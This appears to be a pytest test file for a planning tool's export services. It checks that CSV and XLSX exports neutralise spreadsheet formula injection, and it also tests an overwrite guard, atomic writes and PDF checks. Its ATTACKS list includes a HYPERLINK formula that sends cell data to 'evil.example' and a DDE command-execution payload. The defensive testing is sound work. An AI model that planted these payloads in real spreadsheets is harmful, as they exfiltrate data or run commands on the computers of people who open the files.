"""``kalixplan.services.outputs``: the guard, the atomic writer, and exports that do not attack.

The command-line view of the same rules (full disk, read-only mount, read-only
file, every command) is ``tests/ui/test_outputs_cli.py``.
"""

from __future__ import annotations

import csv
import sqlite3
from pathlib import Path

import openpyxl
import pytest

from kalixplan.services import outputs
from kalixplan.services.actors import list_actors
from kalixplan.services.export.layers import export_layer
from kalixplan.services.importing.report import ImportOptions
from kalixplan.services.importing.run import import_file
from kalixplan.store.engine import create_project, open_project

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klicka här")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)",
    "-2+3",
    "@SUM(1+1)",
    "\tTAB=1",
    "\rCR=1",
]


def _set_notes(db: Path, texts: list[str]) -> dict[str, str]:
    """Put one attack into the notes of each of the first actors; org number → text."""
    project = open_project(str(db))
    try:
        with project.session_scope() as session:
            rows = list_actors(session)[: len(texts)]
    finally:
        project.close()
    con = sqlite3.connect(db)  # test set-up straight in SQL: no change log needed
    with con:
        for row, text in zip(rows, texts, strict=True):
            con.execute("UPDATE actors SET notes = ? WHERE id = ?", (text, row.id))
    con.close()
    return {row.org_number: text for row, text in zip(rows, texts, strict=True)}


def test_csv_formulas_are_neutralised_and_numbers_stay_numbers(
    demo_path: Path, tmp_path: Path
) -> None:
    notes = _set_notes(demo_path, ATTACKS)
    project = open_project(str(demo_path))
    try:
        out = tmp_path / "actors.csv"
        export_layer(project, "actors", out)
        parcels = tmp_path / "parcels.csv"
        export_layer(project, "parcels", parcels)
    finally:
        project.close()
    with out.open(encoding="utf-8", newline="") as fh:
        rows = {r["org_number"]: r for r in csv.DictReader(fh)}
    for org, text in notes.items():
        cell = rows[org]["notes"]
        assert cell == "'" + text
        assert not cell.startswith(outputs.FORMULA_START)
    # Every text cell is safe; numeric cells are untouched numbers.
    for row in rows.values():
        assert not any(str(v).startswith(("=", "+", "@")) for v in row.values())
    with parcels.open(encoding="utf-8", newline="") as fh:
        first = next(csv.DictReader(fh))
    float(first["area_m2"])  # still a plain number, no quote
    assert not first["area_m2"].startswith("'")
    # A spreadsheet reader (openpyxl cannot read CSV; the csv module is what Excel's import
    # follows) sees text: the cell does not start with a formula character.


def test_xlsx_formula_text_is_stored_as_text(demo_path: Path, tmp_path: Path) -> None:
    notes = _set_notes(demo_path, ATTACKS)
    project = open_project(str(demo_path))
    try:
        out = tmp_path / "actors.xlsx"
        export_layer(project, "actors", out)
    finally:
        project.close()
    sheet = openpyxl.load_workbook(out).active
    header = [c.value for c in sheet[1]]
    org_col, notes_col = header.index("org_number"), header.index("notes")
    found = {}
    for row in sheet.iter_rows(min_row=2):
        found[row[org_col].value] = row[notes_col]
    for org, text in notes.items():
        cell = found[org]
        assert cell.data_type == "s", (text, cell.data_type)
        assert cell.value == text.replace("\r", "\n")  # XML reads a CR back as LF
    need = header.index("need_area_ha")
    numbers = [r[need] for r in sheet.iter_rows(min_row=2) if r[need].value is not None]
    assert numbers and all(c.data_type == "n" for c in numbers)


def test_csv_round_trip_keeps_formula_like_text(demo_path: Path, tmp_path: Path) -> None:
    texts = ["=1+1 är ingen formel", "+46 70 123 45 67", "-", "@kalix"]
    notes = _set_notes(demo_path, texts)
    project = open_project(str(demo_path))
    try:
        out = tmp_path / "actors.csv"
        export_layer(project, "actors", out)
    finally:
        project.close()
    target = create_project(str(tmp_path / "copy.gpkg"), 3018)
    try:
        import_file(target, out, ImportOptions("actors"))
        with target.session_scope() as session:
            after = {a.org_number: a.notes for a in list_actors(session)}
    finally:
        target.close()
    for org, text in notes.items():
        assert after[org] == text


def test_neutralise_and_back() -> None:
    for text in ATTACKS:
        assert outputs.unneutralise(outputs.neutralise(text)) == text
    assert outputs.neutralise("Kalix") == "Kalix"
    assert outputs.unneutralise("'quoted") == "'quoted"  # not ours: kept


def test_guard_refuses_projects_and_existing_files(demo_path: Path, tmp_path: Path) -> None:
    with pytest.raises(outputs.OutputRefused, match="open project"):
        outputs.check_target(demo_path, protect=[str(demo_path)], overwrite=True)
    link = tmp_path / "link.csv"
    link.symlink_to(demo_path)
    with pytest.raises(outputs.OutputRefused, match="open project"):
        outputs.check_target(link, protect=[str(demo_path)], overwrite=True)
    with pytest.raises(outputs.OutputRefused, match="KalixPlan project"):
        outputs.check_target(demo_path, overwrite=True)  # any project, open or not
    db = tmp_path / "busy.sqlite"
    con = sqlite3.connect(db)
    con.execute("PRAGMA journal_mode = WAL")
    con.execute("CREATE TABLE t (x)")
    con.execute("INSERT INTO t VALUES (1)")
    try:
        with pytest.raises(outputs.OutputRefused, match="in use"):
            outputs.check_target(db, overwrite=True)
    finally:
        con.close()
    plain = tmp_path / "plain.txt"
    plain.write_text("x")
    with pytest.raises(outputs.OutputRefused, match="exists already"):
        outputs.check_target(plain)
    assert outputs.check_target(plain, overwrite=True) == plain.resolve()
    # A URL names no file: nothing to compare, nothing refused.
    assert outputs.check_target(tmp_path / "new.csv", protect=["postgresql+psycopg://u:pw@h/db"])


def test_atomic_output_leaves_the_old_file_on_any_failure(tmp_path: Path) -> None:
    out = tmp_path / "a.txt"
    out.write_text("old")

    def refuse(path: Path) -> None:
        raise outputs.OutputFailed("broken")

    with pytest.raises(outputs.OutputFailed):
        with outputs.atomic_output(out, verify=refuse) as tmp:
            tmp.write_text("new")
    assert out.read_text() == "old"
    with pytest.raises(ZeroDivisionError):  # a bug keeps its traceback
        with outputs.atomic_output(out) as tmp:
            tmp.write_text("new")
            _ = 1 / 0
    assert out.read_text() == "old"
    with outputs.atomic_output(out) as tmp:
        tmp.write_text("new")
    assert out.read_text() == "new"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.txt"]


def test_pdf_check_reads_back_pages(tmp_path: Path) -> None:
    cut = tmp_path / "cut.pdf"
    cut.write_bytes(b"%PDF-1.4\n1 0 obj << /Type /Page >> endobj\n")
    with pytest.raises(outputs.OutputFailed, match="end marker"):
        outputs.verify_pdf(1)(cut)
    whole = tmp_path / "whole.pdf"
    whole.write_bytes(b"%PDF-1.4\n<< /Type /Pages >> << /Type /Page >> << /Type/Page >>\n%%EOF\n")
    outputs.verify_pdf(2)(whole)
    with pytest.raises(outputs.OutputFailed, match="2 pages read back"):
        outputs.verify_pdf(3)(whole)
